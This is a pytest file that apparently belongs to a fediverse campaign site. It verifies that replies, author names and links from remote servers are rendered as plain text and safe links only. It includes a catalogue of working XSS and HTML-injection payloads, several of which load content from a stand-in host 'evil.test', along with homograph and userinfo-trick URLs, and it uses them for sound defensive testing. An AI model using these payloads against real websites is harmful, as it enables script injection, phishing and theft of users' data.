"""Whatever strangers write, of themselves or in their replies, our pages show text and honest links only."""

import html.parser
from dataclasses import dataclass, field
from typing import Final

import pytest

from fedicause import moderate
from fedicause.instance import Instance
from storage import testimonies
from storage.models import Campaign
from tests import dialects
from tests.conftest import Client
from tests.fediverse import Fediverse
from tests.people import Person
from tests.web import counting

PAGE: Final = "/campaigns/forest"
# fmt: off
# What a reply may add to the page: the tags of the list around it, and those that are left in its text.
TAME: Final = frozenset([
    "a", "b", "bdi", "blockquote", "br", "code", "del", "div", "em", "figcaption", "figure", "h2", "h3",
    "h4", "hr", "i", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "time", "u", "ul",
])
# fmt: on
ATTRIBUTES: Final = frozenset({"href", "rel", "class", "datetime"})
PAYLOADS: Final = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "broken script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "img": '<img src=x onerror="alert(1)">',
    "tracking pixel": '<img src="https://evil.test/pixel.gif">',
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style": "<style>@import 'https://evil.test/x.css'; body{display:none}</style>",
    "style attribute": '<p style="position:fixed;top:0;width:100%;height:100%">cover</p>',
    "class": '<p class="sticky button" id="endorse">ours</p>',
    "form": '<form action="https://evil.test/"><input name=handle><button>Endorse</button></form>',
    "javascript link": '<a href="javascript:alert(1)">why</a>',
    "javascript link, in parts": '<a href="jav&#x09;ascript:alert(1)">why</a>',
    "javascript link, hidden": '<a href=" &#14;  javascript:alert(1)">why</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">why</a>',
    "relative link": '<a href="/campaigns/forest/endorse">why</a><a href="//evil.test/">why</a>',
    "event": '<p onclick="alert(1)" onmouseover=alert(1)>why</p>',
    "quotes": '"><script>alert(1)</script><p x="',
    "comment": "<!--><script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img src onerror=alert(1)>",
    "mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "template": "{{ 7*7 }}{% include 'about.html' %}",
    "closing tags": "</blockquote></figure></section></main></body></html><h1>Fell it</h1>",
    "base": '<base href="https://evil.test/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
    "object": '<object data="https://evil.test/"></object><embed src="https://evil.test/">',
    "null": "<scr\x7fipt>alert(1)</script>",
    "unclosed": '<a href="https://evil.test/" onclick=alert(1)',
}


@dataclass
class Page(html.parser.HTMLParser):
    """What a browser would find."""

    tags: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    text: str = ""

    def __post_init__(self) -> None:
        super().__init__()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


async def look(client: Client, fediverse: Fediverse) -> Page:
    fediverse.clock.advance(2)
    async with client.get(PAGE, headers={"Accept": "text/html"}) as answer:
        assert answer.status == 200
        policy = answer.headers["Content-Security-Policy"]
        assert "unsafe" not in policy
        assert "script-src 'self'" in policy
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        page = Page()
        page.feed(await answer.text())
        page.close()
        return page


async def allow_all(instance: Instance) -> None:
    async with instance.database.writing() as session:
        for each in await testimonies.waiting(session):
            await moderate.allow(session, each.id)


def is_tame(page: Page, before: Page) -> bool:
    """Nothing but text, structure and links was added."""
    added = list(page.tags)
    for tag in before.tags:
        if tag in added:
            added.remove(tag)
    for tag, attributes in added:
        assert tag in TAME, tag
        assert attributes.keys() <= ATTRIBUTES, attributes
        assert attributes.get("class") in {None, "handle", "prose", "voices-list"}, attributes
        href = attributes.get("href")
        assert href is None or href.startswith(("https://", "http://", "mailto:")), href
        if href is not None:
            rel = (attributes.get("rel") or "").split()
            assert {"nofollow", "noopener", "noreferrer", "ugc"} <= set(rel), attributes
    return True


@pytest.fixture
async def bob(fediverse: Fediverse) -> Person:
    return await (await fediverse.server("elsewhere.test")).person("bob")


async def test_no_reply_is_anything_but_text_and_links(
    bob: Person, client: Client, instance: Instance, campaign: Campaign, fediverse: Fediverse
) -> None:
    before = await look(client, fediverse)
    # At most 24 replies are shown.
    payloads = list(PAYLOADS.items())
    for some in (payloads[:20], payloads[20:]):
        for name, payload in some:
            assert (await bob.reply(counting.NOTE, f"<p>{name}: {payload}</p>")).status == 202
        await allow_all(instance)
        page = await look(client, fediverse)
        assert all(f"{name}:" in page.text for name, _ in some)
        assert is_tame(page, before)


async def test_no_name_is_anything_but_text(
    client: Client, instance: Instance, campaign: Campaign, fediverse: Fediverse
) -> None:
    before = await look(client, fediverse)
    server = await fediverse.server("mallory.test")
    mallory = await server.person("mallory")
    server.documents["/users/mallory"] = mallory.document | {
        "name": '<script>alert(1)</script>"><img src=x>&lt;img src=x onerror=alert(1)&gt;\u202etxet',
        "preferredUsername": '"><svg onload=alert(1)>@ours.test',
        "url": "javascript:alert(1)//https://mallory.test/",
    }
    assert (await mallory.reply(counting.NOTE, "<p>mallory was here</p>")).status == 202
    for number, url in enumerate(("javascript:alert(1)", [{"href": "https://evil.test/"}], '"><script>')):
        note = mallory.said[0]["object"] | {"id": f"{mallory.uri}/{number}", "url": url}
        assert (await mallory.say(dialects.about("Create", note), counting.FOREST)).status == 202
    await allow_all(instance)
    page = await look(client, fediverse)
    assert page.text.count("mallory was here") == 4
    assert "evil.test" not in str(page.tags)
    assert is_tame(page, before)
    assert "\u202e" not in page.text


async def test_a_link_leads_where_it_says(
    bob: Person, client: Client, instance: Instance, campaign: Campaign, fediverse: Fediverse
) -> None:
    links = {
        "https://evil.example/": "https://ours.test/campaigns/forest",
        "https://еvil.example/": "https://evil.example/",
        "https://evil.example./": "dotted",
        "https://ours.test@evil.example/": "at",
        "https://ours.test\\@evil.example/": "backslash",
        "https://①②⑦.⓪.⓪.①/": "circled",
    }
    reply = "".join(f'<p><a href="{href}">{shown}</a></p>' for href, shown in links.items())
    assert (await bob.reply(counting.NOTE, reply)).status == 202
    await allow_all(instance)
    page = await look(client, fediverse)
    found = [attributes["href"] or "" for tag, attributes in page.tags if tag == "a" and "href" in attributes]
    assert "https://evil.example/" in found
    # The Cyrillic one is shown for what it is, and dubious authorities lead nowhere.
    assert f"https://{'еvil.example'.encode('idna').decode()}/" in found
    for dubious in ("evil.example.", "@evil", "\\", "①"):
        assert not any(dubious in href for href in found), dubious
    assert "https://ours.test/campaigns/forest" not in page.text.split("In their own words")[1]
    assert "еvil" not in page.text


async def test_an_author_on_an_international_host_is_shown_in_ascii(
    client: Client, instance: Instance, campaign: Campaign, fediverse: Fediverse
) -> None:
    """`оurs.test` with a Cyrillic о is not us."""
    server = await fediverse.server("xn--urs-5cd.test")
    person = await server.person("org")
    assert (await person.reply(counting.NOTE, "<p>official</p>")).status == 202
    await allow_all(instance)
    page = await look(client, fediverse)
    assert "@org@xn--urs-5cd.test" in page.text


async def test_a_reply_that_nobody_allowed_is_shown_nowhere(
    bob: Person, client: Client, campaign: Campaign, fediverse: Fediverse
) -> None:
    assert (await bob.reply(counting.NOTE, "<p>unheard of</p>")).status == 202
    for path in (PAGE, "/", f"{PAGE}/replies", "/api/campaigns/forest", "/api/campaigns"):
        for accept in ("text/html", "application/activity+json"):
            async with client.get(path, headers={"Accept": accept}) as answer:
                text = await answer.text()
                assert answer.status == 200, path
                assert "unheard of" not in text, path
                assert dialects.id_of(bob.said[-1]["object"]) not in text, path
